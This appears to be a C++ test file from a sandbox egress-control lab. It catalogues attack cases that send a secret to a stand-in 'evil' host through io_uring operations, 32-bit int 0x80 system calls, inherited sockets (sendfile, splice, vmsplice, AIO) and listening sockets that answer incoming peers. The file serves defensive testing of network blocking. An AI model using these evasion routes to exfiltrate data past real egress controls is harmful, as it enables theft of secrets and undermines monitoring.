// SPDX-License-Identifier: Apache-2.0
// By other system calls than one thinks of, on sockets that were connected before, and by answering somebody who comes.
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <poll.h>
#include <sys/sendfile.h>
#include <sys/uio.h>

#include "tests/attacks/attack.h"
#include "tests/attacks/uring.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262  // include/uapi/linux/in.h, since Linux 5.6
#endif

namespace weir::lab {
namespace {

// ---- io_uring -----------------------------------------------------------------------------------------------------

io_uring_sqe Request(int opcode, int fd, unsigned flags = 0) {
  io_uring_sqe request{};
  request.opcode = static_cast<std::uint8_t>(opcode);
  request.fd = fd;
  request.flags = static_cast<std::uint8_t>(flags);
  return request;
}

int Told(int result) {
  if (result == -EINVAL || result == -EOPNOTSUPP) return kMissing;  // an opcode that this kernel does not know
  return result == -EINPROGRESS || result == -ECANCELED || result >= 0 ? 0 : -result;
}

int RingConnectBy(const Aim& aim, unsigned setup, unsigned flags) {
  const SocketName to = Name(aim.address, aim.port);
  Uring ring(setup);
  if (!ring) return errno == ENOSYS || errno == EPERM ? kMissing : kBroken;
  const Fd fd(socket(to.family(), SOCK_STREAM | SOCK_NONBLOCK, 0));
  io_uring_sqe request = Request(IORING_OP_CONNECT, fd.get(), flags);
  request.addr = reinterpret_cast<std::uintptr_t>(to.get());
  request.off = to.length;
  return Told(ring.Run(request));
}
int RingConnect(const Aim& aim) { return RingConnectBy(aim, 0, 0); }
int RingConnectByWorker(const Aim& aim) { return RingConnectBy(aim, 0, IOSQE_ASYNC); }
int RingConnectByPoller(const Aim& aim) { return RingConnectBy(aim, IORING_SETUP_SQPOLL, 0); }

int RingSendMsgBy(const Aim& aim, unsigned setup, unsigned flags) {
  SocketName to = Name(aim.address, aim.port);
  Uring ring(setup);
  if (!ring) return errno == ENOSYS || errno == EPERM ? kMissing : kBroken;
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  iovec data{const_cast<char*>(aim.data.data()), aim.data.size()};
  msghdr message{};
  message.msg_name = &to.storage;
  message.msg_namelen = to.length;
  message.msg_iov = &data;
  message.msg_iovlen = 1;
  io_uring_sqe request = Request(IORING_OP_SENDMSG, fd.get(), flags);
  request.addr = reinterpret_cast<std::uintptr_t>(&message);
  request.len = 1;
  return Told(ring.Run(request));
}
int RingSendMsg(const Aim& aim) { return RingSendMsgBy(aim, 0, 0); }
int RingSendMsgByWorker(const Aim& aim) { return RingSendMsgBy(aim, 0, IOSQE_ASYNC); }
int RingSendMsgByPoller(const Aim& aim) { return RingSendMsgBy(aim, IORING_SETUP_SQPOLL, 0); }

// The socket, too, is made by the ring: no socket() is called.
int RingSocket(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  Uring ring;
  if (!ring) return errno == ENOSYS || errno == EPERM ? kMissing : kBroken;
  io_uring_sqe request = Request(45 /* IORING_OP_SOCKET, since 5.19 */, to.family());
  request.off = SOCK_STREAM | SOCK_NONBLOCK;
  const int made = ring.Run(request);
  if (made < 0) return made == -EINVAL ? kMissing : kBroken;
  const Fd fd(made);
  request = Request(IORING_OP_CONNECT, fd.get());
  request.addr = reinterpret_cast<std::uintptr_t>(to.get());
  request.off = to.length;
  return Told(ring.Run(request));
}

// ---- 32-bit system calls
// ----------------------------------------------------------------------------------------------

#if defined(__x86_64__)
long Int80(long number, long a, long b, long c, long d = 0, long e = 0, long f = 0) {
  long result = number;
  // The sixth argument travels in ebp, which a compiler may need itself.
  asm volatile("push %%rbp\n mov %[f], %%rbp\n int $0x80\n pop %%rbp"
               : "+a"(result)
               : "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), [f] "r"(f)
               : "memory", "r8", "r9", "r10", "r11");
  return static_cast<std::int32_t>(result);
}

// Memory that a 32-bit pointer reaches.
char* Low() {
  void* memory =
      mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT | MAP_POPULATE, -1, 0);
  return memory == MAP_FAILED ? nullptr : static_cast<char*>(memory);
}

constexpr long kSocketCall = 102, kConnect32 = 362, kSendTo32 = 369, kGetPid32 = 20;  // asm/unistd_32.h

int By32Bit(const Aim& aim, int type, bool by_socketcall) {
  const SocketName to = Name(aim.address, aim.port);
  char* low = Low();
  if (!low) return kBroken;
  if (Int80(kGetPid32, 0, 0, 0) != getpid()) return kMissing;
  const Fd fd(socket(to.family(), type | SOCK_NONBLOCK, 0));
  std::memcpy(low, &to.storage, to.length);
  std::memcpy(low + 256, aim.data.data(), aim.data.size());
  const auto address = static_cast<std::uint32_t>(reinterpret_cast<std::uintptr_t>(low));
  const bool stream = type == SOCK_STREAM;
  const std::uint32_t connect[] = {static_cast<std::uint32_t>(fd.get()), address, to.length};
  const std::uint32_t send[] = {connect[0], address + 256, static_cast<std::uint32_t>(aim.data.size()),
                                0,          address,       to.length};
  std::memcpy(low + 512, stream ? connect : send, stream ? sizeof(connect) : sizeof(send));
  long result;
  if (by_socketcall)
    result = Int80(kSocketCall, stream ? 3 : 11 /* SYS_CONNECT, SYS_SENDTO */, address + 512, 0);
  else if (stream)
    result = Int80(kConnect32, connect[0], connect[1], connect[2]);
  else
    result = Int80(kSendTo32, send[0], send[1], send[2], send[3], send[4], send[5]);
  return result == -EINPROGRESS || result >= 0 ? 0 : static_cast<int>(-result);
}
#else
int By32Bit(const Aim&, int, bool) { return kMissing; }
#endif
int SocketCallConnect(const Aim& aim) { return By32Bit(aim, SOCK_STREAM, true); }
int SocketCallSendTo(const Aim& aim) { return By32Bit(aim, SOCK_DGRAM, true); }
int Connect32(const Aim& aim) { return By32Bit(aim, SOCK_STREAM, false); }
int SendTo32(const Aim& aim) { return By32Bit(aim, SOCK_DGRAM, false); }

// ---- sockets that were connected before the process joined the job ------------------------------------------------

int OldWrite(const Aim& aim) { return Errno(write(aim.old_fd, aim.data.data(), aim.data.size())); }

int OldSendfile(const Aim& aim) {
  const Fd file(memfd_create("secret", 0));
  off_t at = 0;
  if (write(file.get(), aim.data.data(), aim.data.size()) < 0) return kBroken;
  return Errno(sendfile(aim.old_fd, file.get(), &at, aim.data.size()));
}

int OldSplice(const Aim& aim) {
  int ends[2];
  if (pipe(ends) || write(ends[1], aim.data.data(), aim.data.size()) < 0) return kBroken;
  return Errno(splice(ends[0], nullptr, aim.old_fd, nullptr, aim.data.size(), 0));
}

// Sent from this very page, so it has to keep what it holds.
int OldVmsplice(const Aim& aim) {
  alignas(4096) static char page[4096];
  aim.data.copy(page, sizeof(page));
  int ends[2];
  const iovec data{page, aim.data.size()};
  if (pipe(ends) || vmsplice(ends[1], &data, 1, 0) < 0) return kBroken;
  return Errno(splice(ends[0], nullptr, aim.old_fd, nullptr, aim.data.size(), 0));
}

int OldAio(const Aim& aim) {
  aio_context_t context = 0;
  if (syscall(SYS_io_setup, 1, &context)) return errno == ENOSYS ? kMissing : kBroken;
  iocb request{};
  request.aio_lio_opcode = IOCB_CMD_PWRITE;
  request.aio_fildes = static_cast<std::uint32_t>(aim.old_fd);
  request.aio_buf = reinterpret_cast<std::uintptr_t>(aim.data.data());
  request.aio_nbytes = aim.data.size();
  iocb* requests[] = {&request};
  io_event event{};
  if (syscall(SYS_io_submit, context, 1, requests) != 1) return errno;
  if (syscall(SYS_io_getevents, context, 1, 1, &event, nullptr) != 1) return kBroken;
  return event.res < 0 ? static_cast<int>(-event.res) : 0;
}

int OldRingSend(const Aim& aim) {
  Uring ring;
  if (!ring) return errno == ENOSYS || errno == EPERM ? kMissing : kBroken;
  io_uring_sqe request = Request(IORING_OP_SEND, aim.old_fd, IOSQE_ASYNC);
  request.addr = reinterpret_cast<std::uintptr_t>(aim.data.data());
  request.len = static_cast<std::uint32_t>(aim.data.size());
  return Told(ring.Run(request));
}

// ---- listening ------------------------------------------------------------------------------------------------------

int Bound(const Aim& aim, int type, int protocol = 0) {
  const SocketName at = Name(aim.address == kEvil ? kRunner : kRunner6, aim.port);
  const int fd = socket(at.family(), type, protocol), on = 1;
  if (fd < 0) return -1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
  return bind(fd, at.get(), at.length) ? -1 : fd;
}

bool Comes(int fd) {
  pollfd waiting{fd, POLLIN, 0};
  return poll(&waiting, 1, 1000) == 1;
}

// Whoever connects is told the secret. In block mode nobody can: an answer to a handshake is egress, too.
int AnswerConnection(const Aim& aim, int protocol) {
  const Fd fd(Bound(aim, SOCK_STREAM, protocol));
  if (!fd) return errno == EPROTONOSUPPORT ? kMissing : kBroken;
  if (listen(fd.get(), 8)) return kBroken;
  if (!Comes(fd.get())) return EPERM;
  const Fd visitor(accept(fd.get(), nullptr, nullptr));
  const int error = Errno(send(visitor.get(), aim.data.data(), aim.data.size(), MSG_NOSIGNAL));
  usleep(500'000);  // it may be sent again
  return error;
}
int AnswerTcp(const Aim& aim) { return AnswerConnection(aim, 0); }
int AnswerMptcp(const Aim& aim) { return AnswerConnection(aim, IPPROTO_MPTCP); }

int AnswerDatagram(const Aim& aim) {
  const Fd fd(Bound(aim, SOCK_DGRAM));
  SocketName from;
  from.length = sizeof(from.storage);
  char buffer[64];
  if (!fd || !Comes(fd.get())) return kBroken;
  recvfrom(fd.get(), buffer, sizeof(buffer), 0, reinterpret_cast<sockaddr*>(&from.storage), &from.length);
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, from.get(), from.length));
}

}  // namespace

std::vector<Attack> SyscallAttacks() {
  const unsigned may_miss = kMayBeMissing;
  const unsigned stream = kOldStream | kUntold | kSecretOnly;
  return {
      {"RingConnect", RingConnect, kEvil, 443, may_miss},
      {"RingConnectByWorker", RingConnectByWorker, kEvil, 443, may_miss},
      {"RingConnectByPoller", RingConnectByPoller, kEvil, 443, may_miss},
      {"RingSendMsg", RingSendMsg, kEvil, 443, may_miss},
      {"RingSendMsgByWorker", RingSendMsgByWorker, kEvil, 443, may_miss},
      {"RingSendMsgByPoller", RingSendMsgByPoller, kEvil, 443, may_miss},
      {"RingSocket", RingSocket, kEvil, 443, may_miss},
      {"SocketCallConnect", SocketCallConnect, kEvil, 443, may_miss},
      {"SocketCallSendTo", SocketCallSendTo, kEvil, 443, may_miss},
      {"Connect32", Connect32, kEvil, 443, may_miss},
      {"Connect32Ipv6", Connect32, kEvil6, 443, may_miss},
      {"SendTo32", SendTo32, kEvil, 443, may_miss},
      {"OldDatagramWrite", OldWrite, kEvil, 443, kOldDatagram},
      {"OldDatagramSendfile", OldSendfile, kEvil, 443, kOldDatagram},
      {"OldDatagramSplice", OldSplice, kEvil, 443, kOldDatagram},
      {"OldDatagramVmsplice", OldVmsplice, kEvil, 443, kOldDatagram},
      {"OldDatagramAio", OldAio, kEvil, 443, kOldDatagram | may_miss},
      {"OldDatagramRing", OldRingSend, kEvil, 443, kOldDatagram | may_miss},
      {"OldDatagram6", OldWrite, kEvil6, 443, kOldDatagram},
      {"OldStreamWrite", OldWrite, kEvil, 443, stream},
      {"OldStreamSendfile", OldSendfile, kEvil, 443, stream},
      {"OldStreamSplice", OldSplice, kEvil, 443, stream},
      {"OldStreamVmsplice", OldVmsplice, kEvil, 443, stream},
      {"OldStreamAio", OldAio, kEvil, 443, stream | may_miss},
      {"OldStreamRing", OldRingSend, kEvil, 443, stream | may_miss},
      {"OldStream6", OldWrite, kEvil6, 443, stream},
      {"AnswerTcp", AnswerTcp, kEvil, 8080, kPeer | kUntold | kSecretOnly},
      {"AnswerTcp6", AnswerTcp, kEvil6, 8080, kPeer | kUntold | kSecretOnly},
      {"AnswerMptcp", AnswerMptcp, kEvil, 8081, kPeer | kUntold | kSecretOnly | kNoProcess | may_miss},
      {"AnswerDatagram", AnswerDatagram, kEvil, 8080, kPeer | kSecretOnly},
      {"AnswerDatagram6", AnswerDatagram, kEvil6, 8080, kPeer | kSecretOnly},
  };
}

}  // namespace weir::lab
